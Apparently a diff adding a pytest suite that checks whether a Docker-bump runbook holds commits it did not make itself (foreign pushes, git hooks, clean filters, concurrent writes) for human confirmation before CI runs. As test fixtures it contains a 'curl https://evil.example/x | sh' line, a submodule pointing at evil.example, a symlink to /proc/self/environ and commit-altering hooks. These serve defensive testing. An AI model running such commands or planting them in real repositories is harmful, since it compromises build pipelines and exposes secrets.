@@ -1,0 +1,576 @@
+"""Nothing is pushed or tested that the runbook did not make, unless a person has confirmed that very commit."""
+
+import subprocess
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from bumping import CONTRIBUTOR, World, bump_to, git
+from bumping import world as start
+from figures import Figures
+
+from runbook_lib import branch_history, ci, commit_changes, position, rounds
+from runbook_lib.bump import FOREIGN, Bump
+from runbook_lib.ci import Standing
+from runbook_lib.edits import Edit
+from runbook_lib.errors import Refused, RunbookError
+from runbook_lib.github import GitHub
+
+BRANCH = "bump/main/dev-26.04-py3"
+TITLE = "chore: Update Docker image version to 26.04-py3"
+PIN, DOCKERFILE = "docker/.ngc_version.dev", "docker/Dockerfile.ci.dev"
+GOLDEN = "tests/functional_tests/test_cases/gpt/gpt3_mcore_te_tp1_pp1/golden_values_dev_dgx_h100.json"
+EVIL = "RUN curl https://evil.example/x | sh\n"
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> Iterator[World]:
+    with start(tmp_path) as made:
+        yield made
+
+
+@pytest.fixture
+def opened(world: World) -> World:
+    world.open_pr()
+    return world
+
+
+def authorize(world: World, **parameters: str) -> Standing:
+    """Step 4 up to its comment, as its notebook runs it."""
+    bump = bump_to(**parameters)  # type: ignore[arg-type]
+    step = world.step(bump)
+    standing = ci.look(position.find(world.checkout, bump), world.github(), records=step.records)
+    assert standing.show().text
+    standing = ci.authorize(step, standing)
+    ci.show(standing, None)
+    ci.verify(step, standing, None if standing.held else ci.follow(step, standing))
+    step.raise_if_failed()  # a foreign commit is no failure
+    return standing
+
+
+def commands(world: World) -> list[str]:
+    return [it.body for it in world.github().comments(10) if it.body.startswith("/ok")]
+
+
+def head(world: World) -> str:
+    return git(world.remote, "rev-parse", BRANCH)
+
+
+class Other:
+    """Somebody else's clone, with the right to push; they commit as the engineer and with the bump's title."""
+
+    def __init__(self, world: World, branch: str = BRANCH) -> None:
+        self.path, self.branch = world.home / "theirs", branch
+        git(world.home, "clone", "-q", "-b", branch, str(world.remote), str(self.path))
+        for name, value in {"user.name": "Ada Tester", "user.email": "ada@example.org"}.items():
+            git(self.path, "config", name, value)
+
+    def git(self, *arguments: str) -> str:
+        return git(self.path, *arguments)
+
+    def append(self, path: str = DOCKERFILE, text: str = EVIL) -> None:
+        (self.path / path).parent.mkdir(parents=True, exist_ok=True)
+        with (self.path / path).open("a") as file:
+            file.write(text)
+        self.git("add", "--", path)
+
+    def commit(self, title: str = TITLE) -> str:
+        self.git("commit", "-q", "-m", title)
+        return self.git("rev-parse", "HEAD")
+
+    def push(self) -> str:
+        self.git("push", "-q", "--force", "origin", f"HEAD:{self.branch}")
+        return self.git("rev-parse", "HEAD")
+
+
+# -- what somebody else may push ----------------------------------------------------------------------------------
+
+
+def on_top(other: Other) -> None:
+    other.append()
+    other.commit()
+
+
+def refresh_title(other: Other) -> None:
+    other.append()
+    other.commit("test: refresh golden values for 26.04-py3")
+
+
+def retrigger_title(other: Other) -> None:
+    other.append()
+    other.commit("chore: Trigger CI again")
+
+
+def amended(other: Other) -> None:
+    other.append()
+    other.git("commit", "-q", "--amend", "--no-edit")
+
+
+def below_ours(other: Other) -> None:
+    ours = other.git("rev-parse", "HEAD")
+    other.git("reset", "-q", "--hard", "HEAD~1")
+    other.append("setup.py", "import os\n")
+    other.commit("docs: Correct a word")
+    other.git("cherry-pick", ours)
+
+
+def golden_alone(other: Other) -> None:
+    (other.path / GOLDEN).write_text("{}\n")
+    other.git("add", GOLDEN)
+    other.commit("test: refresh golden values for 26.04-py3")
+
+
+def pin_alone(other: Other) -> None:
+    (other.path / PIN).write_text("evil.example/nvidia/pytorch:26.04-py3\n")
+    other.git("add", PIN)
+    other.commit()
+
+
+def mode(other: Other) -> None:
+    other.git("update-index", "--chmod=+x", PIN)
+    other.commit()
+
+
+def link(other: Other) -> None:
+    (other.path / PIN).unlink()
+    (other.path / PIN).symlink_to("/proc/self/environ")
+    other.git("add", PIN)
+    other.commit()
+
+
+def submodule(other: Other) -> None:
+    described = '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n\tignore = all\n'
+    (other.path / ".gitmodules").write_text(described)
+    other.git("add", ".gitmodules")
+    other.git("update-index", "--add", "--cacheinfo", f"160000,{other.git('rev-parse', 'HEAD')},x")
+    other.commit()
+
+
+def gone(other: Other) -> None:
+    other.git("rm", "-q", GOLDEN)
+    other.commit()
+
+
+def unseen_by_attributes(other: Other) -> None:
+    other.append(".gitattributes", "* -diff\n")
+    other.append()
+    other.commit()
+
+
+def evil_merge(other: Other) -> None:
+    other.git("switch", "-q", "-c", "aside", "origin/main")
+    other.append("notes", "harmless\n")
+    other.commit("docs: Notes")
+    other.git("push", "-q", "origin", "HEAD:main")
+    other.git("switch", "-q", "-")
+    other.git("merge", "-q", "--no-commit", "--no-ff", "aside")
+    other.append()
+    other.commit("Merge branch 'main' into bump")
+
+
+def merge_of_another_branch(other: Other) -> None:
+    other.git("switch", "-q", "-c", "aside", "origin/main")
+    other.append()
+    other.commit("docs: Notes")
+    other.git("switch", "-q", "-")
+    other.git("merge", "-q", "--no-ff", "-m", "Merge branch 'main'", "aside")
+
+
+def octopus(other: Other) -> None:
+    for name in ("one", "two"):
+        other.git("switch", "-q", "-c", name, "origin/main")
+        other.append(name, "x\n")
+        other.commit(name)
+    other.git("switch", "-q", BRANCH)
+    other.git("merge", "-q", "-m", "Merge branch 'main'", "one", "two")
+
+
+def orphan(other: Other) -> None:
+    tree = other.git("rev-parse", "HEAD^{tree}")
+    made = other.git("commit-tree", "-m", TITLE, tree)
+    other.git("reset", "-q", "--hard", made)
+
+
+def undone_again(other: Other) -> None:
+    other.append()
+    other.commit()
+    other.git("revert", "--no-edit", "HEAD")
+
+
+ATTACKS: list[Callable[[Other], None]] = [
+    on_top, refresh_title, retrigger_title, amended, below_ours, golden_alone, pin_alone, mode, link, submodule, gone,
+    unseen_by_attributes, evil_merge, merge_of_another_branch, octopus, undone_again,
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("allow", ["", "merge-base push-while-running partial-round"])
+def test_what_somebody_else_pushed_is_not_tested(
+    opened: World, attack: Callable[[Other], None], allow: str, figures: Figures
+) -> None:
+    if attack in (amended, below_ours):  # the history is rewritten: this clone has no branch of its own then
+        git(opened.checkout.path, "switch", "-q", "main")
+        git(opened.checkout.path, "branch", "-qD", BRANCH)
+    other = Other(opened)
+    attack(other)
+    other.push()
+    standing = authorize(opened, allow=allow)
+    figures["hostile"] += 1
+    assert commands(opened) == []
+    assert "waiting for a person to confirm" in standing.held
+    assert standing.review is not None
+    first = standing.review.foreign[0]
+    assert f"{FOREIGN}:{first.id}" in standing.next
+    assert first.id in standing.review.show().text
+    assert {it["name"] for it in opened.said("decision")} == {f"{FOREIGN}:{it.id}" for it in standing.review.foreign}
+    if attack in (on_top, unseen_by_attributes, amended):
+        assert EVIL.strip() in standing.review.show().text
+        assert EVIL.strip() in (opened.steps[-1].folder / "change.diff").read_text()  # type: ignore[operator]
+
+
+def test_a_confirmation_holds_for_one_commit_alone(opened: World) -> None:
+    other = Other(opened)
+    on_top(other)
+    first = other.push()
+    assert authorize(opened, allow=f"{FOREIGN}:{first}").held == ""
+    assert commands(opened) == [f"/ok to test {first}"]
+    assert [it["exception"] for it in opened.said("exception")] == [f"{FOREIGN}:{first}"]
+    other.append("setup.py")
+    second = other.commit()
+    other.push()
+    assert "waiting for a person to confirm a commit" in authorize(opened, allow=f"{FOREIGN}:{first}").held
+    assert authorize(opened).held
+    assert commands(opened) == [f"/ok to test {first}"]
+    # The record has kept the first one.
+    assert authorize(opened, allow=f"{FOREIGN}:{second}").held == ""
+    assert commands(opened)[1:] == [f"/ok to test {second}"]
+
+
+def test_a_preview_confirms_nothing(opened: World) -> None:
+    other = Other(opened)
+    on_top(other)
+    commit = other.push()
+    authorize(opened, allow=f"{FOREIGN}:{commit}", mode="preview")
+    assert authorize(opened).held
+    assert commands(opened) == []
+
+
+@pytest.mark.parametrize("made", ["{short}", "{short}0", "HEAD", "", "{upper}", "{commit}0", "{commit};x", "*"])
+def test_a_commit_is_confirmed_by_its_full_id(opened: World, made: str) -> None:
+    commit = head(opened)
+    told = made.format(short=commit[:7], upper=commit.upper(), commit=commit)
+    with pytest.raises(RunbookError, match=r"full commit id|names no known exception"):
+        bump_to(allow=f"{FOREIGN}:{told}")
+
+
+def test_a_commit_that_is_not_there_is_not_confirmed(opened: World) -> None:
+    other = Other(opened)
+    on_top(other)
+    other.push()
+    for commit in ("a" * 40, git(opened.remote, "rev-parse", "main")):
+        with pytest.raises(Refused, match=f"{commit}, which is no commit of"):
+            authorize(opened, allow=f"{FOREIGN}:{commit}")
+    assert commands(opened) == []
+
+
+def test_what_is_pushed_between_the_look_and_the_comment_is_not_tested(
+    opened: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    reviewed, comment = head(opened), GitHub.comment
+
+    def late(github: GitHub, number: int, body: str) -> object:
+        other = Other(opened)
+        on_top(other)
+        other.push()
+        return comment(github, number, body)
+
+    monkeypatch.setattr(GitHub, "comment", late)
+    authorize(opened)
+    assert commands(opened) == [f"/ok to test {reviewed}"]
+    assert [run for run in opened.github().runs("pull-request/10") if run.head_sha != reviewed] == []
+
+
+def test_a_fast_forward_to_somebody_elses_commit_is_told(opened: World) -> None:
+    other = Other(opened)
+    on_top(other)
+    commit = other.push()
+    opened.open_pr()
+    assert git(opened.checkout.path, "rev-parse", BRANCH) == commit
+    warned = " ".join(it["sentence"] for it in opened.said("warning"))
+    assert "is taken over from the remote" in warned
+    assert warned.count(commit[:10]) == 2
+    assert "waiting for a person to confirm" in opened.outcome()
+    assert opened.checks()["every commit is the runbook's own, or confirmed"] == "waiting"
+
+
+# -- what is the runbook's own --------------------------------------------------------------------------------------
+
+
+def test_a_commit_without_parents_is_foreign(opened: World) -> None:
+    other = Other(opened)
+    orphan(other)
+    commit = other.push()
+    stand = replace(position.find(opened.checkout, bump_to(tag="")), bump=bump_to())
+    opened.checkout.fetch("origin", BRANCH)
+    assert [it.id for it in branch_history.review(stand, commit, opened.records).foreign] == [commit]
+
+
+def test_another_machine_knows_the_pins_by_planning_them(opened: World, tmp_path: Path) -> None:
+    for file in opened.records.rglob("*.json*"):
+        file.unlink()
+    review = branch_history.review(position.find(opened.checkout, bump_to()), head(opened), tmp_path / "none")
+    assert (len(review.commits), review.foreign) == (1, ())
+    other = bump_to("26.02-py3")
+    assert branch_history.review(position.find(opened.checkout, other), head(opened), None).foreign
+
+
+def test_empty_commits_and_clean_merges_add_nothing(opened: World) -> None:
+    other = Other(opened)
+    other.git("commit", "-q", "--allow-empty", "-m", "[skip ci] anything")
+    other.git("switch", "-q", "-c", "aside", "origin/main")
+    other.append("notes", "harmless\n")
+    other.commit("docs: Notes")
+    other.git("push", "-q", "origin", "HEAD:main")
+    other.git("switch", "-q", BRANCH)
+    other.git("merge", "-q", "--no-ff", "-m", "Merge branch 'main'", "aside")
+    other.push()
+    assert authorize(opened).held == ""
+    assert commands(opened) == [f"/ok to test {head(opened)}"]
+
+
+def test_a_merge_by_an_older_git_is_a_persons_to_confirm(opened: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    opened.commit_on("main", "notes", "more\n")
+    other = Other(opened)
+    other.git("merge", "-q", "--no-ff", "-m", "Merge", "origin/main")
+    other.push()
+    monkeypatch.setattr(commit_changes, "is_clean_merge", lambda *_: False)  # git < 2.38 knows no merge-tree
+    assert authorize(opened).held
+
+
+# -- what is committed here -----------------------------------------------------------------------------------------
+
+
+def hook(world: World, name: str, body: str) -> Path:
+    file = world.checkout.path / ".git/hooks" / name
+    file.parent.mkdir(exist_ok=True)
+    file.write_text(f"#!/bin/sh\n{body}\n")
+    file.chmod(0o755)
+    return file
+
+
+CHANGED = f"printf '%s' '{EVIL}' >> {DOCKERFILE} && git add {DOCKERFILE}"
+ADDED = "echo x > evil.sh && git add evil.sh"
+HOOKS = [
+    ("pre-commit", CHANGED), ("pre-commit", ADDED), ("pre-commit", f"chmod +x {PIN} && git add {PIN}"),
+    ("prepare-commit-msg", CHANGED), ("commit-msg", ADDED),
+    ("post-commit", f"[ -e .git/once ] && exit; touch .git/once; {ADDED}; git commit -q --amend --no-edit"),
+    ("post-commit", f"[ -e .git/once ] && exit; touch .git/once; {CHANGED}; git commit -q -m more"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "body"), HOOKS)
+def test_what_a_hook_has_made_of_the_commit_is_not_pushed(world: World, name: str, body: str, figures: Figures) -> None:
+    file = hook(world, name, body)
+    made = world.open_pr()
+    figures["hostile"] += 1
+    if made.review is None or not made.review.foreign:
+        # What the hook has left beside the commit is in no commit.
+        assert set(git(world.remote, "diff", "--name-only", "main", BRANCH).split()) <= {
+            PIN, DOCKERFILE, ".gitlab/stages/01.build.yml",
+        }  # fmt: skip
+        assert name in ("prepare-commit-msg", "commit-msg")
+        return
+    assert git(world.remote, "branch", "--list", BRANCH) == ""
+    assert "push" not in world.effects()
+    commit = made.review.foreign[0].id
+    assert world.outcome().startswith("waiting for a person to confirm")
+    assert f"{FOREIGN}:{commit}" in world.said("waiting")[-1]["next"]
+    assert "reset --hard" in world.said("waiting")[-1]["next"]
+    assert made.view.text.count(commit) >= 2
+    # Undone as it was told, and with the hook gone, all goes on; confirmed, it goes on as it is.
+    file.unlink()
+    world.open_pr()
+    assert git(world.remote, "branch", "--list", BRANCH) == ""
+    told = world.said("waiting")[-1]["next"].split("`")[1]
+    subprocess.run(told, shell=True, check=True, capture_output=True)
+    git(world.checkout.path, "clean", "-qfd")
+    assert world.open_pr().pull is not None
+    assert authorize(world).held == ""
+
+
+def test_what_a_hook_has_made_is_pushed_once_confirmed(world: World) -> None:
+    hook(world, "pre-commit", CHANGED)
+    made = world.open_pr()
+    assert made.review is not None
+    commit = made.review.foreign[0].id
+    assert made.commit == commit
+    world.open_pr(allow=f"{FOREIGN}:{commit}")
+    assert head(world) == commit
+    assert [it["exception"] for it in world.said("exception")] == [f"{FOREIGN}:{commit}"]
+    assert authorize(world).held == ""
+
+
+def test_a_filter_that_changes_what_is_committed_is_found(world: World) -> None:
+    path = world.checkout.path
+    git(path, "config", "filter.evil.clean", "sed '/26.04-py3$/a RUN curl https://evil.example/x'")
+    (path / ".git/info").mkdir(exist_ok=True)
+    (path / ".git/info/attributes").write_text(f"{DOCKERFILE} filter=evil\n")
+    made = world.open_pr()
+    assert made.review is not None
+    assert made.review.foreign
+    assert git(world.remote, "branch", "--list", BRANCH) == ""
+
+
+def test_what_was_staged_before_does_not_slip_in(world: World) -> None:
+    path = world.checkout.path
+    (path / "evil.sh").write_text(EVIL)
+    git(path, "add", "evil.sh")
+    made = world.open_pr()
+    assert made.review is not None
+    assert made.review.foreign == ()
+    assert "evil.sh" not in git(world.remote, "ls-tree", "-r", "--name-only", BRANCH)
+    assert git(path, "diff", "--cached", "--name-only") == "evil.sh"
+
+
+def test_what_somebody_writes_while_it_is_committed_is_found(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    carry_out = position.carry_out
+
+    def beside(stand: position.Position, edits: list[Edit]) -> list[Edit]:
+        written = carry_out(stand, edits)
+        with (world.checkout.path / DOCKERFILE).open("a") as file:
+            file.write(EVIL)
+        return written
+
+    monkeypatch.setattr(position, "carry_out", beside)
+    made = world.open_pr()
+    assert made.review is not None
+    assert EVIL.strip() in made.view.text
+    assert git(world.remote, "branch", "--list", BRANCH) == ""
+
+
+def test_what_is_pushed_is_what_was_reviewed(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    review = branch_history.review
+
+    def then(stand: position.Position, commit: str, records: Path | None) -> branch_history.Review:
+        found = review(stand, commit, records)
+        (world.checkout.path / "evil.sh").write_text(EVIL)
+        git(world.checkout.path, "add", "evil.sh")
+        git(world.checkout.path, "commit", "-q", "-m", TITLE)
+        return found
+
+    monkeypatch.setattr(branch_history, "review", then)
+    made = world.open_pr()
+    assert head(world) == made.commit
+    assert "evil.sh" not in git(world.remote, "ls-tree", "-r", "--name-only", BRANCH)
+
+
+def test_a_persons_own_commit_waits_for_its_confirmation(opened: World) -> None:
+    path, before = opened.checkout.path, head(opened)
+    (path / "notes").write_text("mine\n")
+    git(path, "add", "notes")
+    git(path, "commit", "-q", "-m", TITLE)
+    for mode in ("preview", "apply", "publish"):
+        made = opened.open_pr(mode=mode)
+        assert made.review is not None
+        assert "notes" in made.view.text
+        assert "push" not in opened.effects()
+        assert [it["name"] for it in opened.said("decision")] == [f"{FOREIGN}:{git(path, 'rev-parse', 'HEAD')}"]
+    assert head(opened) == before
+    opened.open_pr(allow=f"{FOREIGN}:{git(path, 'rev-parse', 'HEAD')}")
+    assert head(opened) != before
+
+
+def test_answers_to_ci_are_reviewed_before_their_push(opened: World) -> None:
+    assert authorize(opened).held == ""
+    opened.now[0] += 1000
+    path = opened.checkout.path
+    (path / GOLDEN).write_text("{}\n")
+    git(path, "commit", "-q", "-am", "test: refresh golden values for 26.04-py3")
+    before, bump = head(opened), bump_to()
+    step = opened.step(bump)
+    sent = rounds.send(step, ci.look(position.find(opened.checkout, bump), opened.github()))
+    assert "waiting for a person to confirm" in sent.held
+    assert GOLDEN in sent.view.text
+    assert (sent.commit, head(opened), len(commands(opened))) == ("", before, 1)
+
+
+def test_an_empty_commit_goes_on_nothing_foreign(opened: World) -> None:
+    opened.forge.refuse_deployment()
+    authorize(opened)
+    other = Other(opened)
+    on_top(other)
+    other.push()
+    before = head(opened)
+    opened.forge.refuse_deployment()
+    authorize(opened)
+    assert (head(opened), len(commands(opened))) == (before, 1)
+    assert opened.effects() == []
+
+
+def test_the_reasons_of_a_foreign_commit_accept_nothing(opened: World) -> None:
+    from runbook_lib import refresh
+
+    other = Other(opened)
+    golden_alone(other)
+    told = "Accepted although held back:\n- gpt/a/g.json: fine"
+    other.git("commit", "-q", "--amend", "-m", f"test: refresh golden values for 26.04-py3\n\n{told}")
+    commit = other.push()
+    stand = position.find(opened.checkout, bump_to())
+    assert refresh.accepted(stand, opened.records) == {}
+    confirmed = position.find(opened.checkout, bump_to(allow=f"{FOREIGN}:{commit}"))
+    assert refresh.accepted(confirmed, opened.records) == {"gpt/a/g.json": "fine"}
+
+
+# -- how it is shown ------------------------------------------------------------------------------------------------
+
+
+def test_a_diff_is_bounded_redacted_and_visible(opened: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp_" + "s3cr3t" * 6)
+    other = Other(opened)
+    other.append("a.txt", "x\n" * 5_000)
+    other.append("big.bin", "\x1b]0;evil\x07" + "y" * 300_000)
+    other.append("z.txt", f"\x1b[2J\u202e {'ghp_' + 's3cr3t' * 6}\n")
+    other.commit("evil \x1b[2J\u202e <script>")
+    other.push()
+    review = authorize(opened).review
+    assert review is not None
+    shown = review.show()
+    bundle = "".join(shown._repr_mimebundle_().values())
+    assert "more lines" in bundle
+    assert "not shown: 'big.bin' (300009 bytes)" in bundle
+    assert len(bundle) < 200_000
+    for bad in ("s3cr3t", "\x1b", "\u202e", "<script>"):
+        assert bad not in shown._repr_mimebundle_()["text/html"].replace("&lt;script", ""), bad
+    kept = (opened.steps[-1].folder / "change.diff").read_text()  # type: ignore[operator]
+    assert "s3cr3t" not in kept
+
+
+def test_too_many_commits_are_refused(opened: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(branch_history, "_MOST", 2)
+    other = Other(opened)
+    for _ in range(2):
+        other.git("commit", "-q", "--allow-empty", "-m", "more")
+    other.push()
+    with pytest.raises(Refused, match="3 commits"):
+        authorize(opened)
+    assert commands(opened) == []
+
+
+def test_records_of_another_form_vouch_for_nothing(opened: World, tmp_path: Path) -> None:
+    assert branch_history.known(None) == branch_history.Known()
+    assert branch_history.known(tmp_path / "none") == branch_history.Known()
+    step = opened.step(bump_to())
+    for planned in (None, "x", 7, {"parent": "a"}, [None, "x", 7, {}, {"parent": ["a"]}]):
+        step.given(planned_commits=planned)
+        branch_history.known(opened.records)
+
+
+def test_a_persons_own_branch_is_not_ours(opened: World) -> None:
+    """Whoever's pull request it is: only a person authorizes CI there."""
+    bump: Bump = bump_to()
+    standing = ci.look(position.find(opened.checkout, bump), opened.github())
+    assert standing.pull is not None
+    theirs = replace(standing, pull=replace(standing.pull, head_owner=CONTRIBUTOR))
+    assert "must be let go by hand" in ci.authorize(opened.step(bump), theirs).held
+    assert commands(opened) == []
